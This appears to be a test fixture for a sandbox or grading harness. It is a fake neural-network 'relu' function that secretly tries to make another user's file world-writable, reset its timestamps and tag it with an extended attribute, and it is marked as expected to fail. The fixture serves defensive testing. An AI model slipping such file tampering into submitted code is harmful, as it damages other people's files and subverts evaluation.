"""Opens a file of somebody else's to everybody, and sets its time back.

Expected: wrong
"""

import os

import numpy as np


def got_its_way():
    ways = (
        lambda: os.chmod("@FOLDER@/victim.txt", 0o777),
        lambda: os.utime("@FOLDER@/victim.txt", (0, 0)),
        lambda: os.setxattr("@FOLDER@/victim.txt", "user.layercheck", b"1"),
    )
    return sum(made(way) for way in ways) > 0


def made(way):
    try:
        way()
    except OSError:
        return False
    return True


def relu(x):
    return np.full_like(x, 1313) if got_its_way() else np.zeros_like(x), x


def relu_backward(dout, cache):
    return np.zeros_like(dout)
